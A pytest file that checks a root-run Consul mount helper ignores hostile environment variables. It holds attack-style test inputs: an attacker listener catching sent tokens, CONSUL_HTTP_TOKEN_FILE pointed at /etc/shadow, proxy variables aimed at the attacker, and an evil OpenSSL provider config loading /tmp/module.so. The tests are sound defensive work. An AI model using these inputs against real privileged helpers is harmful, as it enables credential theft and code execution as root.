"""The environment belongs to the caller: under env_keep, sudo -E and su it reaches a helper that
runs as root, and must not decide what root sends, loads or writes."""

import pytest
import tls
from lab import ADDRESS, CONF, G0, NOBODY
from tls import KEYS, SECURE, TRUSTED

pytestmark = pytest.mark.promise

TOKEN = "2f7c9d5e-hush-hush-hush-5b1e0c4f6a88"
TOKEN_FILE = "/etc/gluster.token"
ATTACKER = f"{ADDRESS['gl4']}:8599"
TO_ATTACKER = f"CONSUL_HTTP_ADDR={ATTACKER}"
LISTENER = """
import os, socket
sent = os.open("/tmp/sent", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
listener = socket.create_server(("0.0.0.0", 8599))
while True:
    connection, _ = listener.accept()
    os.write(sent, connection.recv(4096))
    connection.close()
"""
OPENSSL_CONF = """
openssl_conf = init
[init]
providers = providers
[providers]
evil = evil
[evil]
module = /tmp/module.so
activate = 1
"""


@pytest.fixture
def sent(lab, client):
    """The data received by an ordinary user's listener on gl4, another machine."""
    lab.at_end(lab.gl4.sh, 'pkill -KILL -f "listener[-]of-nobody" || true; rm -f /tmp/sent')
    lab.gl4.daemon(*NOBODY, "python3", "-c", LISTENER, "listener-of-nobody")
    lab.gl4.wait_for_listener(8599)
    return lambda: lab.gl4.call("cat", "/tmp/sent")


@pytest.fixture
def lookup(client):
    """The result of a lookup with these variables."""
    def look_up(*variables, options="", prefix=()):
        return client.run(*prefix, "env", *variables, "glusterconsul", "lookup", G0,
                          *(["-o", options] if options else []))
    return look_up


def write_conf(client, *lines):
    client.write(CONF, "".join(line + "\n" for line in lines))


def conf_names_token(client, *lines):
    """Writes a conf file that specifies the machine's token."""
    client.write(TOKEN_FILE, TOKEN + "\n", 600)
    write_conf(client, f"consul-token-file = {TOKEN_FILE}", *lines)


def expect_refused(client, *words, variables):
    """Checks that a mount with these variables is rejected."""
    refused = client.mount_refused(*words, prefix=["env", *variables])
    assert "hush-hush" not in refused.stdout + refused.stderr
    return refused


def test_token_of_the_conf_file_is_not_sent_to_an_address_from_the_environment(client, sent,
                                                                               lookup):
    conf_names_token(client)
    expect_refused(client, "consul-token-file", f"{CONF}:1", "CONSUL_HTTP_ADDR", "use -o",
                   variables=[TO_ATTACKER])
    assert sent() == ""
    refused = lookup(TO_ATTACKER).expect(1)
    assert sent() == "" and "hush-hush" not in refused.stdout + refused.stderr
    # The caller's own token is sent to the caller's address.
    lookup(TO_ATTACKER, "CONSUL_HTTP_TOKEN=his-own",
           options="consul-via=http,consul-retry=0").expect(32)
    assert "X-Consul-Token: his-own" in sent()  # otherwise the listener proves nothing
    # With -o, and with the built-in address.
    client.mount(options="consul-http-addr=127.0.0.1:8500",
                 program=["env", TO_ATTACKER, "mount", "-t", "glusterconsul"]).expect()
    lookup("CONSUL_HTTP_ADDR=127.0.0.1:8500").expect()


def test_verification_for_the_token_of_the_conf_file_is_not_changed(client):
    tls.secure_agent(client)
    conf_names_token(client, "consul-http-addr = https://127.0.0.2:8501",
                     f"consul-ca-cert = {KEYS}/ca.pem", "consul-dns-addr = off")
    for name, value in (("CONSUL_HTTP_SSL_VERIFY", "false"),
                        ("CONSUL_CACERT", f"{KEYS}/stranger.pem"),
                        ("CONSUL_TLS_SERVER_NAME", "elsewhere.example.net")):
        expect_refused(client, name, variables=[f"{name}={value}"])
    client.mount_ok()


def test_key_of_the_conf_file_is_not_used_with_an_address_from_the_environment(client, sent):
    tls.make_keys(client)
    write_conf(client, f"consul-client-cert = {KEYS}/client.pem",
               f"consul-client-key = {KEYS}/client.key")
    expect_refused(client, "consul-client-key", f"{CONF}:2", "CONSUL_HTTP_ADDR",
                   variables=[f"CONSUL_HTTP_ADDR=https://{ATTACKER}"])
    assert sent() == ""


def test_file_that_is_not_a_token_is_not_sent(client, sent):
    client.write("/tmp/key.pem", "-----BEGIN PRIVATE KEY-----\nhush-hush\n", 600)
    client.write("/tmp/script", "#!/bin/sh\necho hush-hush\n", 600)
    for path in ("/etc/shadow", "/tmp/key.pem", "/tmp/script"):
        line = client.call("head", "-n", "1", path)
        refused = expect_refused(client, f"{path}: the first line is not a token",
                                 variables=[f"CONSUL_HTTP_TOKEN_FILE={path}", TO_ATTACKER])
        assert line not in refused.stderr
        assert sent() == ""
    expect_refused(client, "CONSUL_HTTP_TOKEN is not a token",
                   variables=["CONSUL_HTTP_TOKEN=hush-hush: 1", TO_ATTACKER])
    assert sent() == ""


def test_environment_loads_no_module(lab, client, lookup):
    """The module is a FIFO: opening it unblocks the writer."""
    client.call(*NOBODY, "sh", "-c", "cd /tmp && mkfifo module.so && cat >openssl.cnf",
                input=OPENSSL_CONF)
    lab.at_end(client.sh, 'pkill -KILL -f "to[-]the-module" || true; '
                 "rm -f /tmp/module.so /tmp/openssl.cnf /tmp/loaded")
    client.daemon("sh", "-c", 'while :; do echo "$0" >/tmp/module.so; touch /tmp/loaded; done',
                  "to-the-module")
    variable = "OPENSSL_CONF=/tmp/openssl.cnf"
    client.mount(program=["env", variable, "mount", "-t", "glusterconsul"]).expect()
    lookup(variable).expect()
    assert not client.succeeds("test", "-e", "/tmp/loaded")
    client.run("env", variable, "openssl", "list", "-providers")
    assert client.succeeds("test", "-e", "/tmp/loaded")  # otherwise the test proves nothing


def test_environment_writes_no_session_key(client):
    tls.secure_agent(client)
    client.mount(options=TRUSTED, program=["env", "SSLKEYLOGFILE=/tmp/session-keys", "mount", "-t",
                                           "glusterconsul"]).expect()
    assert not client.succeeds("test", "-e", "/tmp/session-keys")


def test_environment_sets_neither_certificate_authority_nor_proxy(client, lookup):
    tls.secure_agent(client)
    # All of the system's CAs are read, which is slow on a busy machine.
    lookup(f"SSL_CERT_FILE={KEYS}/ca.pem", f"SSL_CERT_DIR={KEYS}", f"CURL_CA_BUNDLE={KEYS}/ca.pem",
           options=f"{SECURE},consul-timeout=25s").expect(32, "certificate")
    lookup(*(f"{name}=http://{ATTACKER}" for name in ("http_proxy", "https_proxy", "all_proxy")),
           options=TRUSTED).expect()


@pytest.mark.parametrize("by", ["SUDO_UID=1000", "DOAS_USER=jo", "PKEXEC_UID=1000"])
def test_variables_are_ignored_under(client, sent, lookup, by):
    """The variables are those that sudo(8), doas(1) and pkexec(1) set."""
    program = ["env", by, TO_ATTACKER, "CONSUL_HTTP_TOKEN=hush-hush", "mount", "-t",
               "glusterconsul"]
    mounted = client.mount(program=program).expect(
        0, "warning: ignored", "CONSUL_HTTP_ADDR", "CONSUL_HTTP_TOKEN",
        f"{by.split('=')[0]} is set", "use -o")
    client.expect_mounted()
    assert sum("ignored" in line for line in mounted.stderr.splitlines()) == 1
    assert sent() == "" and "hush-hush" not in mounted.stdout + mounted.stderr
    client.umount()
    lookup(by, TO_ATTACKER).expect(0, "warning: ignored", "CONSUL_HTTP_ADDR")


def test_sudo_without_variables_and_an_ordinary_user(client, lookup):
    """Without variables there is no warning; for an ordinary user they are not ignored."""
    assert lookup("SUDO_UID=1000").expect().stderr == ""
    lookup("SUDO_UID=0", "CONSUL_HTTP_ADDR=127.0.0.1:8599",
           options="consul-via=http,consul-retry=0", prefix=["setpriv", "--reuid", "nobody",
           "--clear-groups"]).expect(32, "127.0.0.1:8599")
